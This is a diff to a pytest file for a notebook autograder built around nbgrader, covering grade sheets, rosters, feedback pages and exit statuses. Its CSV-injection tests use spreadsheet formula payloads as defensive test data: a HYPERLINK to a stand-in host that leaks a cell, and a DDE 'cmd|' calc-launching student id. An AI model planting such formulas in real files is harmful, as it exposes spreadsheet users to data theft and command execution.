@@ -1,9 +1,12 @@
 """The instructor's and the student's commands, run as they would run them."""
 
+import contextlib
 import csv
 import io
 import json
+import os
 import re
+import sqlite3
 import subprocess
 import sys
 from pathlib import Path
@@ -45,15 +48,17 @@ def graded(tmp_path_factory, notebook_names):
 
 def test_grade_prints_a_table_and_flags_what_needs_a_look(graded):
     root, process, _ = graded
-    assert process.returncode == 1, process.stderr
-    lines = process.stdout.splitlines()
+    assert process.returncode == 0, process.stderr  # notes are no failure
+    table, after = process.stdout.split("\n\n", 1)
+    lines = table.splitlines()
     assert lines[0].split()[:4] == ["student", "score", "max", "%"]
     rows = {line.split()[0]: line for line in lines[1:]}
-    assert set(rows) == {"ada", "bob", "cyd", "dee"}
+    assert set(rows) == {"ada", "bob", "cyd", "dee"} and "no submission (1): cyd" in after
     assert "100.0" in rows["ada"]
     assert "not valid notebook JSON" in rows["bob"]
-    assert "empty" in rows["cyd"]
-    assert "need a look" in process.stderr
+    # nbgrader's layout: cyd's folder holds no week's folder, so cyd handed nothing in
+    assert rows["cyd"].split()[1:] == ["-", "-", "-", "no", "submission"]
+    assert "graded with a note" in process.stderr
 
 
 def test_grade_writes_json_with_every_test(graded, notebook_names):
@@ -82,7 +87,10 @@ def test_grade_writes_a_csv_grade_sheet(graded):
     root, _, _ = graded
     rows = list(csv.DictReader((root / "grades.csv").open()))
     assert [r["student_id"] for r in rows] == ["ada", "bob", "cyd", "dee"]
-    assert rows[0]["percent"] == "100.0" and rows[2]["score"] == "0"
+    assert rows[0]["percent"] == "100.0" and rows[0]["status"] == "graded"
+    assert rows[1]["status"] == "graded with a note" and "not valid notebook JSON" in \
+        rows[1]["error"]
+    assert (rows[2]["score"], rows[2]["status"]) == ("", "no submission")
 
 
 def test_feedback_pages_explain_without_showing_hidden_inputs(graded):
@@ -97,8 +105,10 @@ def test_feedback_pages_explain_without_showing_hidden_inputs(graded):
 def test_the_class_report_names_the_mistakes_and_what_needs_a_look(graded):
     root, process, _ = graded
     page = (root / "report.html").read_text()
-    assert "1 of 4 forgot to divide by m in propagate" in page
-    assert "a notebook could not be read" in page and "the submission could not be graded" in page
+    assert "1 of 3 forgot to divide by m in propagate" in page  # cyd handed nothing in
+    assert "a notebook could not be read" in page
+    assert "1</strong> with no submission" in page and "out of the scores and mistakes " \
+        "above: cyd." in page
     assert "wrote the class report" in process.stderr
     assert_no_hidden_values(page)
 
@@ -141,8 +151,7 @@ def test_a_graded_feedback_page_opens_with_what_to_fix(graded):
     assert re.findall(r'<details id="[\w-]+" class="failed" open>\s*<summary>'
                       r'<span class="status">[^<]*</span> <code>(\w+)</code>', page) == \
         ["propagate"]
-    empty = (root / "feedback" / "cyd" / ASSIGNMENT / "feedback.html").read_text()
-    assert empty.count("the submission folder is empty.") == 1
+    assert not (root / "feedback" / "cyd").exists()  # no submission, no page
     full = (root / "feedback" / "ada" / ASSIGNMENT / "feedback.html").read_text()
     assert "<strong>Full marks:</strong>" in full and "To fix" not in full
 
@@ -156,6 +165,7 @@ def test_grades_land_in_nbgraders_gradebook(graded):
         bob = gb.find_submission(ASSIGNMENT, "bob")
         assert ada.score == pytest.approx(ada.max_score) and ada.max_score > 0
         assert 0 < bob.score < bob.max_score
+        assert "cyd" not in {s.id for s in gb.students}  # no submission is no 0 score
 
 
 def test_grade_reports_a_missing_folder_and_an_unknown_assignment(tmp_path):
@@ -209,20 +219,37 @@ def test_stored_references_are_current(assignment):
                      f"run `python -m autograder references {assignment}`")
 
 
+@pytest.mark.parametrize("layout", ["wide", "canvas", "moodle"])
+def test_no_cell_of_an_lms_grade_sheet_starts_a_formula(layout):
+    from autograder.grade import SubmissionResult
+    from autograder.gradesheet import grade_sheet
+    from autograder.spreadsheet import FORMULA_STARTS
+
+    formulas = [start + 'HYPERLINK("x")' for start in FORMULA_STARTS]
+    results = [SubmissionResult(formula, 3.0, 6.0, f"{formula}.ipynb is a link.")
+               for formula in formulas]
+    text = grade_sheet(ASSIGNMENT, results, [f"{formulas[0]}absent"], layout=layout)
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert sum(cell.startswith("'") for cell in cells) >= len(formulas) + 1
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
+
+
 def test_no_csv_cell_starts_a_formula(tmp_path):
-    from autograder.grade import SubmissionResult, results_csv
+    from autograder.grade import SubmissionResult
+    from autograder.gradesheet import grade_sheet
     from autograder.spreadsheet import FORMULA_STARTS
 
     formulas = [start + 'HYPERLINK("http://x.example/?"&A1,"open")' for start in FORMULA_STARTS]
     results = [SubmissionResult(formula, -1.5 if n == 0 else 3.0, 6.0,
                                 f"{formula}.ipynb is a link in the zip, not a notebook file.")
                for n, formula in enumerate(formulas)]
-    header, *rows = csv.reader(io.StringIO(results_csv(results)))
-    assert header == ["student_id", "score", "max_score", "percent", "error"]
-    for formula, (student, score, max_score, percent, error) in zip(formulas, rows):
+    header, *rows = csv.reader(io.StringIO(grade_sheet(ASSIGNMENT, results)))
+    assert header == ["student_id", "score", "max_score", "percent", "status", "submitted_at",
+                      "late", "error"]
+    for formula, (student, score, max_score, percent, *_, error) in zip(sorted(formulas), rows):
         assert student == "'" + formula and error.startswith("'" + formula)
-        assert float(score) in (-1.5, 3.0) and max_score == "6" and percent in ("-25.0", "50.0")
-    assert rows[0][1] == "-1.5"  # the grader's own negative number stays a number
+        assert float(score) in (-1.5, 3.0) and max_score == "6.00" and percent in ("-25.0", "50.0")
+    assert "-1.50" in [row[1] for row in rows]  # the grader's own negative number stays a number
     # from the command line: a student id (a folder's name) that is a formula
     submissions = tmp_path / "submitted"
     folder = submissions / "=SUM(1+1)*cmd|' -C calc'!A0"
@@ -231,7 +258,7 @@ def test_no_csv_cell_starts_a_formula(tmp_path):
     process = run_cli("grade", str(submissions), "--assignment", ASSIGNMENT, "--csv",
                       str(tmp_path / "grades.csv"), "--gradebook", "none", "--cache-dir",
                       str(tmp_path / "cache"), "--feedback-dir", str(tmp_path / "feedback"))
-    assert process.returncode == 1, process.stderr
+    assert process.returncode == 0, process.stderr  # graded: a link is the student's note
     (row,) = csv.DictReader((tmp_path / "grades.csv").open())
     assert row["student_id"] == "'=SUM(1+1)*cmd|' -C calc'!A0"
     cells = [cell for row in csv.reader((tmp_path / "grades.csv").open()) for cell in row]
@@ -260,7 +287,7 @@ def test_a_roster_is_a_csv_with_a_student_id_column_or_one_id_per_line(tmp_path)
 
 
 @pytest.mark.parametrize("content, words", [
-    (b"name,id\nAda,1001\n", r"no student_id column \(it has name, id\)"),
+    (b"name,login\nAda,1001\n", r"no student_id column \(it has name, login\)"),
     (b"name,student_id\nAda,1001\nBob,\n", "has no student_id on line 3"),
     (b"# nobody yet\n\n", "holds no student id"),
     (b"\xff\xfe1\x00", "is not UTF-8 text"),
@@ -270,7 +297,7 @@ def test_a_roster_that_cannot_serve_is_refused_saying_the_format(tmp_path, conte
 
     path = tmp_path / "roster.csv"
     path.write_bytes(content)
-    with pytest.raises(RosterError, match=words + ".*student_id column, or a text file with"):
+    with pytest.raises(RosterError, match=words + ".*student_id column .*text file with"):
         read_roster(path)
     process = run_cli("grade", str(tmp_path), "--assignment", ASSIGNMENT, "--roster",
                       str(path), "--gradebook", "none")
@@ -278,3 +305,84 @@ def test_a_roster_that_cannot_serve_is_refused_saying_the_format(tmp_path, conte
     process = run_cli("grade", str(tmp_path), "--assignment", ASSIGNMENT, "--roster",
                       str(tmp_path / "nowhere.csv"), "--gradebook", "none")
     assert process.returncode == 2 and "cannot be read (No such file" in process.stderr
+
+
+def test_nbgraders_student_table_is_a_roster_with_names_and_emails(tmp_path, monkeypatch):
+    from nbgrader.api import Gradebook
+
+    from autograder.roster import RosterError, read_roster
+
+    exported = tmp_path / "students.csv"  # as `nbgrader db student import` reads it
+    exported.write_text("id,first_name,last_name,email\nada,Ada,Lovelace,ada@x.org\nbob,,,\n")
+    roster = read_roster(exported)
+    assert roster.ids == {"ada", "bob"}
+    assert roster.people["ada"] == {"name": "Ada Lovelace", "email": "ada@x.org"}
+    db = tmp_path / "gradebook.db"
+    # nbgrader runs the `alembic` of its environment to make a gradebook
+    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}:{os.environ['PATH']}")
+    with Gradebook(f"sqlite:///{db}") as gb:
+        gb.add_student("cyd", first_name="Cyd", email="c@x.org")
+        gb.add_student("dee")
+    roster = read_roster(db)
+    assert roster.ids == {"cyd", "dee"} and roster.people["cyd"]["email"] == "c@x.org"
+    other = tmp_path / "other.db"
+    with contextlib.closing(sqlite3.connect(other)) as connection:
+        connection.execute("CREATE TABLE grades (x)")
+    with pytest.raises(RosterError, match="a SQLite file but not a gradebook of nbgrader's"):
+        read_roster(other)
+
+
+def test_in_nbgraders_layout_a_student_without_the_assignments_folder_handed_nothing_in(
+        tmp_path):
+    from autograder.grade import grade
+    from autograder.intake import student_folders
+    from autograder.sandbox import Unsandboxed
+
+    submitted = tmp_path / "submitted"
+    (submitted / "ada" / ASSIGNMENT).mkdir(parents=True)
+    (submitted / "bob" / "week0_other").mkdir(parents=True)  # another week only
+    (submitted / "cyd").mkdir()
+    students, _ = student_folders(submitted, ASSIGNMENT)
+    assert {s.student_id: s.handed_in for s in students} == {"ada": True, "bob": False,
+                                                             "cyd": False}
+    # outside nbgrader's layout an empty folder is still a (graded, empty) submission
+    plain = tmp_path / "plain"
+    (plain / "cyd").mkdir(parents=True)
+    assert [s.handed_in for s in student_folders(plain, ASSIGNMENT)[0]] == [True]
+    results = grade(submitted, assignment=ASSIGNMENT, students=students,
+                    sandbox=Unsandboxed())  # nothing of a student's runs: ada's is empty
+    assert [r.student_id for r in results] == ["ada"]
+
+
+def test_the_exit_status_fails_only_when_the_grader_could_not_grade_a_submission(
+        tmp_path, monkeypatch, capsys):
+    import autograder.grade as grading
+    from autograder.__main__ import main
+
+    submitted = tmp_path / "submitted"
+    (submitted / "ada").mkdir(parents=True)  # graded, with a note: an empty folder
+    (submitted / "bob").mkdir()
+    roster = tmp_path / "class.txt"
+    roster.write_text("ada\nbob\ncyd\n")  # cyd hands nothing in
+    out = tmp_path / "out"
+    command = ["grade", str(submitted), "--assignment", ASSIGNMENT, "--gradebook", "none",
+               "--roster", str(roster), "--json", str(out / "results.json"),
+               "--cache-dir", str(out / "cache"), "--feedback-dir", str(out / "feedback")]
+    assert main(command) == 0  # notes and a missing student are no failure
+    data = json.loads((out / "results.json").read_text())
+    assert data["no_submission"] == ["cyd"]
+    assert [s["status"] for s in data["submissions"]] == ["graded with a note"] * 2
+    real = grading.grade_submission
+
+    def broken_for_bob(student, *args, **kwargs):
+        if student == "bob":
+            raise MemoryError("the grader ran out of memory")
+        return real(student, *args, **kwargs)
+
+    monkeypatch.setattr(grading, "grade_submission", broken_for_bob)
+    capsys.readouterr()
+    assert main([*command, "--force"]) == 1
+    err = capsys.readouterr().err
+    assert "the grader could not grade 1 submission(s) (bob)" in err
+    data = json.loads((out / "results.json").read_text())
+    assert [s["status"] for s in data["submissions"]] == ["graded with a note", "not graded"]
